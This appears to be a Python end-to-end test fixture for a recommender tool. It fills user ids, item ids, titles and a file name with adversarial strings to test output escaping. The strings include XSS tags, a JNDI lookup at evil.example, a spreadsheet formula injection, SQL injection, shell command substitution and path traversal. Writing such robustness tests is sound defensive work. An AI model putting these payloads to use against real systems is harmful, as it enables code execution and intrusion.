"""A checkerboard whose ids and titles programs may misinterpret."""

import csv
from pathlib import Path

from tests.end_to_end.conftest import DATASET, Checkerboard, write_data

# One kind for each line: the terminal, Rich, HTML, templates, CSV and JSON, spreadsheets, Unicode, paths and options,
# shells and databases, words that mean "nothing", and keys of our own table and bucket.
_TEXTS = (
    *("\x1b[31mred\x1b[0m", "\x1b]0;owned\x07", "\x9b2J", "bell\x07", "back\bspace", "\x7fdel", "nul\x00byte"),
    *("[/b]", "[link=https://evil.example]x[/link]", ":smile:"),
    *("<script>hit()</script>", "<img src=x onerror=hit()>", '"><x-hostile>', "</td></table><x-hostile>", "&lt;b&gt;"),
    *("{{ 7 * 7 }}", "{% endraw %}", "${jndi:ldap://evil.example}", "$.user", "States.UUID()", "%s %(user)s {0}"),
    *(
        "comma, comma",
        'quote " quote',
        '"',
        "'",
        "line\nbreak",
        "line\r\nbreak",
        "car\rriage",
        "tab\ttab",
        "\\",
        "\\N\\",
    ),
    *("=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "#", "##", "#user#", "\ufffd", "\uffff", "e\u0301", "\u00e9"),
    *(
        "\u202eright to left",
        "zero\u200bwidth",
        "line\u2028separator",
        "next\x85line",
        "\U0001f469\u200d\U0001f680",
        "𝔘",
        "İi",
    ),
    *("../x", "..", ".", "/", "a/b", "a\\b", "%2e%2e%2f", "C:\\x", "--help", "-n", "--", "~", "*", "?x=1&y=2"),
    *("'; DROP TABLE users; --", "$(id)", "`id`", "|", "0", "00", "1e3", "042", "42", "true", "__proto__"),
    *("null", "NULL", "None", "NaN", "\\N", "N/A", "undefined", "[]", "{}", '{"S": "x"}'),
    *("pointer", "current", "meta#current", "meta#version", "meta#default", "meta#default#x", "user#", "part-00000"),
    *("é" * 512, "\U0001f600" * 256, "x" * 1024),
)
_FILE = "[b] \x1b[31m=\u00e9%2e<x-hostile>&+.csv"
USERS = _TEXTS
ITEMS = tuple(reversed(_TEXTS))
BOARD = Checkerboard(users=len(USERS), items=30)


def has(user: int) -> list[str]:
    """The items of a user's history."""
    return [ITEMS[item] for item in BOARD.has(user)]


def group(user: int) -> str:
    """The feature for whose values there are default lists: one for each half of the board."""
    return ("meta#default", "=[/b]<x-hostile>\x1b[1m")[user % 2]


def title(item: int) -> str:
    """Another hostile text than the item's id."""
    return f"of {_TEXTS[item]}"


def hostile_data(folder: Path, time: str | None = None) -> str:
    """The folder for ``topx run --data``; ``time`` replaces every row's time."""
    dataset = {
        **DATASET,
        "null_values": [],
        "items": {"id": "item", "title": "title"},
        "users": {"id": "user", "features": {"group": "category"}, "default_by": "group"},
    }
    rows = ((USERS[int(u[1:])], ITEMS[int(i[1:])], value, time or then) for u, i, value, then in BOARD.rows())
    written = write_data(folder, rows, dataset)
    (folder / "interactions" / "a.csv").rename(folder / "interactions" / _FILE)
    sides = {
        "items": [("item", "title"), *((ITEMS[item], title(item)) for item in range(BOARD.items))],
        "users": [("user", "group"), *((text, group(number)) for number, text in enumerate(USERS))],
    }
    for name, lines in sides.items():
        (folder / name).mkdir()
        with (folder / name / "all.csv").open("w", encoding="utf-8", newline="") as stream:
            csv.writer(stream).writerows(lines)
    return written
